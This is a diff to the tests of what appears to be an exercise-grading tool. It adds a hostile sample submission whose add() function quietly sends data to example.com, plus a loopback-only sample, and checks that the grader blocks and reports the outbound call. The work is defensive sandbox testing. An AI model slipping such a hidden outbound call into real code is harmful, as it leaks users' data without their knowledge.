@@ -287,8 +287,27 @@ HOSTILE = {
     "broken": "def add(a, b)\n    return a + b\n",
     "interrupts": "def add(a, b):\n    raise KeyboardInterrupt\n",
     "exits_in_test": "def add(a, b):\n    raise SystemExit(1)\n",
+    "phones_home": (
+        "import urllib.request\n\n"
+        "def add(a, b):\n"
+        "    urllib.request.urlopen('http://example.com/?sum=1', timeout=2)\n"
+        "    return a + b\n"
+    ),
     "solved": SOLVED,
 }
+LOOPBACK_IS_FINE = """
+import socket
+
+
+def add(a, b):
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(1)
+    with socket.create_connection(server.getsockname(), timeout=2):
+        pass
+    server.close()
+    return a + b
+"""
 
 
 def test_hostile_exercises_cost_only_themselves(tmp_path: Path, monkeypatch) -> None:
@@ -296,12 +315,14 @@ def test_hostile_exercises_cost_only_themselves(tmp_path: Path, monkeypatch) -> 
     truthful result, what happened is named, and the solved exercise passes."""
     monkeypatch.setenv("RXGRADE_HOME", str(tmp_path / "state"))
     root = tmp_path / "mentor"
-    make_course(root, dict.fromkeys(HOSTILE, STUB), timeout=2)
-    mean = learner(root, "mal", {f"weeks/week1/{n}.py": text for n, text in HOSTILE.items()})
+    stubs = {**HOSTILE, "local": LOOPBACK_IS_FINE}
+    make_course(root, dict.fromkeys(stubs, STUB), timeout=2)
+    mean = learner(root, "mal", {f"weeks/week1/{n}.py": text for n, text in stubs.items()})
     graded = mentor.grade_learner(root, mean, tmp_path / "r", jobs=2)
     report = graded.report
     result = states(report)
     assert result["week1.solved"] == "passing"
+    assert result["week1.local"] == "passing", "a connection to the loopback is allowed"
     for name in HOSTILE:
         if name != "solved":
             assert result[f"week1.{name}"] == "failing", (name, result)
@@ -317,6 +338,7 @@ def test_hostile_exercises_cost_only_themselves(tmp_path: Path, monkeypatch) -> 
     assert "SyntaxError" in said("broken")
     assert "KeyboardInterrupt" in said("interrupts")
     assert "SystemExit" in said("exits_in_test")
+    assert "beyond this machine's loopback" in said("phones_home")
     assert len(json.dumps(report)) < 2_000_000, "ten megabytes of printing are not in the report"
 
 
